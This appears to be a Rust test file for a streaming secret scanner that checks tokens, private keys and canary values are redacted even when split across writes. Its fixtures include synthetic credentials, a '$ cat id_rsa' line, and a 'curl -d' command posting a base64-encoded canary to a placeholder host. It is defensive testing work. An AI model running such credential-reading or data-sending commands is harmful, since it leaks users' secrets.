//! Streaming: secrets split across writes are found and redacted before any part is released,
//! offsets are absolute, and chunking never changes the result.

use crate::common;

use base64::Engine as _;
use common::*;
use sandlot_guard::{redact, Canary, Finding, Released, Scanner, StreamScanner, WINDOW};

/// Feeds `chunks`, checking each release continues the stream; returns everything released
/// (raw and redacted, concatenated) and the findings.
fn run(scanner: &Scanner, chunks: &[&str]) -> (String, String, Vec<Finding>) {
    let mut s = StreamScanner::new(scanner.clone());
    let (mut raw, mut redacted, mut findings) = (String::new(), String::new(), Vec::new());
    let mut take = |r: Released| {
        assert_eq!(r.offset, raw.len(), "releases are contiguous");
        for f in &r.findings {
            assert!(f.start >= r.offset && f.end <= r.offset + r.text.len());
        }
        raw.push_str(&r.text);
        redacted.push_str(&r.redacted());
        findings.extend(r.findings);
    };
    for c in chunks {
        take(s.push(c));
    }
    take(s.finish());
    assert_eq!(s.held(), 0);
    (raw, redacted, findings)
}

fn assert_same_as_whole(scanner: &Scanner, text: &str, chunks: &[&str]) {
    let whole = scanner.scan(text);
    let (raw, redacted, findings) = run(scanner, chunks);
    assert_eq!(raw, text);
    assert_eq!(findings, whole, "chunks {chunks:?}");
    assert_eq!(redacted, redact(text, &whole));
}

fn splits_at(text: &str, cuts: &[usize]) -> Vec<String> {
    let mut out = Vec::new();
    let mut from = 0;
    for &c in cuts {
        out.push(text[from..c].to_string());
        from = c;
    }
    out.push(text[from..].to_string());
    out
}

#[test]
fn a_token_split_at_every_position_is_found_and_never_released() {
    let r = &mut Rng::new(1);
    let token = format!("ghp_{}", r.token(ALNUM, 36));
    let text = format!("step 1 done\nuploading with {token} now\nstep 2 done\n");
    let scanner = Scanner::default();
    for cut in 1..text.len() {
        let parts = splits_at(&text, &[cut]);
        let refs: Vec<&str> = parts.iter().map(String::as_str).collect();
        let (_, redacted, findings) = run(&scanner, &refs);
        assert_eq!(rules(&findings), vec!["github-token"], "cut {cut}");
        assert_eq!(findings[0].start, text.find(&token).unwrap());
        // No 6-byte piece of the token reached the released (redacted) output.
        for w in token.as_bytes().windows(6) {
            assert!(
                !redacted.contains(std::str::from_utf8(w).unwrap()),
                "cut {cut}"
            );
        }
    }
}

#[test]
fn byte_at_a_time_equals_whole_text() {
    let r = &mut Rng::new(2);
    let text = format!(
        "export AWS_SECRET_ACCESS_KEY={}\nAuthorization: Bearer {}\r\nprogress 10%\rprogress 20%\r{}\n",
        r.token(BASE64, 40),
        r.token(URLSAFE, 40),
        format_args!("sk_live_{}", r.token(ALNUM, 30)),
    );
    let chunks: Vec<String> = text.chars().map(String::from).collect();
    let refs: Vec<&str> = chunks.iter().map(String::as_str).collect();
    assert_same_as_whole(&Scanner::default(), &text, &refs);
}

#[test]
fn pem_block_split_across_many_writes() {
    let r = &mut Rng::new(3);
    let mut key = String::from("-----BEGIN RSA PRIVATE KEY-----\n");
    for _ in 0..26 {
        key.push_str(&r.token(BASE64, 64));
        key.push('\n');
    }
    key.push_str("-----END RSA PRIVATE KEY-----");
    let text = format!("$ cat id_rsa\n{key}\n$ echo ok\nok\n");
    let lines: Vec<String> = text.split_inclusive('\n').map(String::from).collect();
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let scanner = Scanner::default();
    assert_same_as_whole(&scanner, &text, &refs);
    let (_, redacted, findings) = run(&scanner, &refs);
    assert_eq!(rules(&findings), vec!["private-key"]);
    assert_eq!(
        redacted,
        "$ cat id_rsa\n[REDACTED:private-key]\n$ echo ok\nok\n"
    );
    // The block is held while open and released whole once END arrives.
    let mut s = StreamScanner::new(scanner);
    let mut released = String::new();
    for line in &refs[..10] {
        released.push_str(&s.push(line).text);
    }
    assert_eq!(released, "$ cat id_rsa\n");
}

#[test]
fn canary_split_across_writes_and_in_base64() {
    let c = Canary::generate();
    let scanner = Scanner::default().with_canaries(&c.values()).unwrap();
    let text = format!("leaking {} now\n", c.secret);
    for cut in 9..9 + c.secret.len() {
        let parts = splits_at(&text, &[cut]);
        let refs: Vec<&str> = parts.iter().map(String::as_str).collect();
        let (_, redacted, findings) = run(&scanner, &refs);
        assert_eq!(rules(&findings), vec!["canary"]);
        assert_eq!(redacted, "leaking [REDACTED:canary] now\n");
    }
    let encoded = base64::engine::general_purpose::STANDARD.encode(format!("k={}", c.secret));
    let text = format!("curl -d {encoded} http://x\n");
    for cut in 8..8 + encoded.len() {
        let parts = splits_at(&text, &[cut]);
        let refs: Vec<&str> = parts.iter().map(String::as_str).collect();
        let (_, _, findings) = run(&scanner, &refs);
        assert_eq!(rules(&findings), vec!["canary-base64"], "cut {cut}");
    }
}

#[test]
fn keyword_in_an_earlier_write_still_anchors_the_value() {
    let r = &mut Rng::new(4);
    let value = r.token(BASE64, 40);
    let text = format!("aws_secret_access_key = {value}\n");
    assert_same_as_whole(
        &Scanner::default(),
        &text,
        &["aws_secret_", "access_key = ", &value, "\n"],
    );
}

#[test]
fn secret_at_the_end_of_a_long_line_within_the_window() {
    let r = &mut Rng::new(5);
    let token = format!("glpat-{}", r.token(ALNUM, 20));
    let text = format!("{} {token} {}\n", "x".repeat(3000), "y".repeat(10));
    let cut = text.find(&token).unwrap() + 10;
    let chunks = [&text[..2000], &text[2000..cut], &text[cut..]];
    assert_same_as_whole(&Scanner::default(), &text, &chunks);
    // Chunks of WINDOW bytes: the hold never exceeds the window on an unbroken line.
    let mut s = StreamScanner::new(Scanner::default());
    s.push(&"z".repeat(10 * WINDOW));
    assert_eq!(s.held(), WINDOW);
}

#[test]
fn random_chunkings_of_mixed_output_equal_the_whole_scan() {
    let r = &mut Rng::new(6);
    let mut text = String::new();
    for i in 0..200 {
        text.push_str(&match i % 7 {
            0 => format!("token: ghp_{}\n", r.token(ALNUM, 36)),
            1 => format!("loss={:.4} step={i}\n", r.below(1000) as f64 / 1000.0),
            2 => format!("PASSWORD=\"{}\"\n", r.token(ALNUM, 14)),
            3 => "ünïcödé ✓ output 漢字\n".to_string(),
            4 => format!("url https://u:{}@h.internal/x\n", r.token(ALNUM, 20)),
            5 => format!("sha256={}\n", r.token(HEX, 64)),
            _ => format!("{}\r", r.token(LETTERS, 30)),
        });
    }
    let scanner = Scanner::default();
    for seed in 0..20 {
        let mut cuts: Vec<usize> = (0..40)
            .map(|_| r.below(text.len()))
            .filter(|&c| text.is_char_boundary(c))
            .collect();
        cuts.sort_unstable();
        cuts.dedup();
        let parts = splits_at(&text, &cuts);
        let refs: Vec<&str> = parts.iter().map(String::as_str).collect();
        assert_same_as_whole(&scanner, &text, &refs);
        let _ = seed;
    }
}
